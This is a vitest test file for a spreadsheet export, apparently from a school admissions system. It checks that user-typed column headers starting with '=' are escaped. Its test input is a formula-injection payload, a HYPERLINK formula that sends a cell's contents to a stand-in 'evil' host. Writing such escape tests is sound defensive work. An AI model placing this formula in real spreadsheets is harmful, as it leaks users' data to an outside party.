import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { TITLE_ROWS, writeXlsx } from './xlsx-export.ts';

/*
 * Review probe: the preferences export names columns after the season's subjects and batches,
 * which the 招生办 types (`Name`: any text). SECURITY.md: cells starting with = + - @ TAB or NUL
 * are escaped — header cells too.
 */
describe('review: export header cells from user data', () => {
  it('escapes a header that starts with =', async () => {
    const stream = writeXlsx({
      title: { zh: '志愿填报情况', en: 'Preferences' },
      unitName: '区教育局',
      filters: [],
      exportedAt: new Date('2026-12-06T00:00:00Z'),
      columns: [{ header: { zh: '=HYPERLINK("http://evil/?"&A5,"数学")', en: 'x' }, value: () => 1 }],
      rows: [{}],
    });
    const chunks: Buffer[] = [];
    for await (const c of stream) chunks.push(c as Buffer);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const header = wb.worksheets[0]!.getRow(TITLE_ROWS + 1).getCell(1).value;
    expect(String(header).startsWith("'=")).toBe(true);
  });
});
